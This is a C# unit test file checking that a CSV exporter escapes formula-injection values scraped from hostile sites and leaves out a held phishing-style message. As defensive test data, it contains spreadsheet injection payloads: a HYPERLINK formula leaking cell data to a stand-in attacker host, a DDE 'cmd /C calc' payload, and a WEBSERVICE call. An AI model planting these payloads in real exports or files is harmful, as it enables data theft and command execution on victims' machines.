using Appliance.Ingest;
using Appliance.Export;
using Appliance.Tests.Support;
using Dapper;
using Microsoft.Extensions.Logging.Abstractions;
using Microsoft.Extensions.Options;

namespace Appliance.Tests.Export;

/// <summary>The export a customer opens in a spreadsheet, written from what a hostile site and file put in PostgreSQL.</summary>
public class ExportWriterTests(DatabaseFixture db) : IClassFixture<DatabaseFixture>
{
    private async Task<long> UploadAsync(string csv)
    {
        using var dir = new TempDirectory();
        var path = dir.Write("leads.csv", csv);
        var ingestor = new UploadIngestor(db.DataSource, Options.Create(new IngestOptions()), NullLogger<UploadIngestor>.Instance);
        var id = await ingestor.RegisterAsync("leads.csv", 1, path);
        await ingestor.IngestAsync(id, path);
        return id;
    }

    private async Task<string[]> ExportLinesAsync(long id)
    {
        await using var text = new StringWriter();
        await new ExportWriter(db.DataSource).WriteAsync(id, text, CancellationToken.None);
        return text.ToString().Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);
    }

    [Fact]
    public async Task ScrapedFormulas_ReachTheCsvAsText_InEveryColumn()
    {
        var id = await UploadAsync("website,company,email\nsite.example,=1+2,@SUM(1)\n");
        await using (var conn = await db.DataSource.OpenConnectionAsync())
        {
            await conn.ExecuteAsync("""
                UPDATE websites SET scraping_status = 'done', generation_status = 'done',
                    title = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', description = '+cmd|'' /C calc''!A0',
                    emails = ARRAY['@SUM(1)@evil.example'], phones = ARRAY['-1+1']
                WHERE file_upload_id = @id
                """, new { id });
            await conn.ExecuteAsync("""
                INSERT INTO messages (website_id, file_upload_id, body, generator, from_site)
                SELECT id, file_upload_id, '=WEBSERVICE("http://evil.example")', 'template', true FROM websites WHERE file_upload_id = @id
                """, new { id });
        }

        var lines = await ExportLinesAsync(id);

        var row = lines[1];
        Assert.Contains(",'=1+2,", row);
        Assert.Contains(",'@SUM(1),", row);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click me\"\")\",", row);
        Assert.Contains(",'+cmd|' /C calc'!A0,", row);
        Assert.Contains(",'@SUM(1)@evil.example,", row);
        Assert.Contains(",'-1+1,", row);
        Assert.Contains(",\"'=WEBSERVICE(\"\"http://evil.example\"\")\",", row);
        // No cell of the row starts a formula once its quoting is taken off.
        Assert.DoesNotContain(",=", row);
        Assert.DoesNotContain(",+", row);
        Assert.DoesNotContain(",@", row);
        Assert.DoesNotContain(",\"=", row);
    }

    [Fact]
    public async Task AHeldMessage_IsNotExported_ButItsStatusAndReasonAre()
    {
        var id = await UploadAsync("website,company\nheld.example,Held Co\n");
        await using (var conn = await db.DataSource.OpenConnectionAsync())
        {
            await conn.ExecuteAsync("""
                UPDATE websites SET scraping_status = 'done', generation_status = 'held',
                    generation_error = 'contains the link http://evil.example/login, which is not the lead''s website'
                WHERE file_upload_id = @id
                """, new { id });
            await conn.ExecuteAsync("""
                INSERT INTO messages (website_id, file_upload_id, body, generator, from_site)
                SELECT id, file_upload_id, 'verify your password at http://evil.example/login', 'llm', true FROM websites WHERE file_upload_id = @id
                """, new { id });
        }

        var lines = await ExportLinesAsync(id);

        Assert.EndsWith(",generation_status,message,generator,model,generation_error", lines[0]);
        Assert.Contains(",held,,llm,", lines[1]);
        Assert.Contains("http://evil.example/login, which is not the lead's website", lines[1]);
        Assert.DoesNotContain("verify your password", lines[1]);
    }
}
